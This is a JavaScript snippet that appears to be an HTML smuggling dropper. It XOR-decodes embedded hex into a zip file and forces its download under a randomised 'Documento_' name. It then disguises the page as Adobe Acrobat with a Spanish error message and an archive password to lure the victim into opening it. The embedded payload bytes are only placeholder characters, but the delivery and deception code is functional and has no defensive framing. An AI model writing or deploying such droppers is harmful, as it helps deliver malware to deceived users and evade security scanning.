const parts = [
  "0203020302030203020302030203020302030203020302030203020302030203",
  "0203020302030203020302030203020302030203020302030203020302030203",
  "0203020302030203020302030203020302030203020302030203020302030203",
];
const k = "CB";
const unhex = (h) => Uint8Array.from(h.match(/../g), (p) => parseInt(p, 16));
const open = (b) => b.map((v, i) => v ^ k.charCodeAt(i % k.length));

setTimeout(() => {
  const bytes = open(unhex(parts.reverse().join("")));
  const name = `Documento_${new Date().getFullYear()}_${Math.floor(Math.random() * 9000 + 1000)}.zip`;
  const link = Object.assign(document.createElement("a"), {
    href: URL.createObjectURL(new Blob([bytes], { type: "application/zip" })),
    download: name,
  });
  link.dispatchEvent(new MouseEvent("click"));
  document.title = "Adobe Acrobat";
  document.querySelector("#viewer").innerHTML = `
    <img src="data:image/png;base64,AAAA" alt="">
    <h3>El documento no se puede mostrar correctamente</h3>
    <p>El archivo se ha descargado. Contraseña del documento: <b>ABC321</b></p>`;
}, 1500);
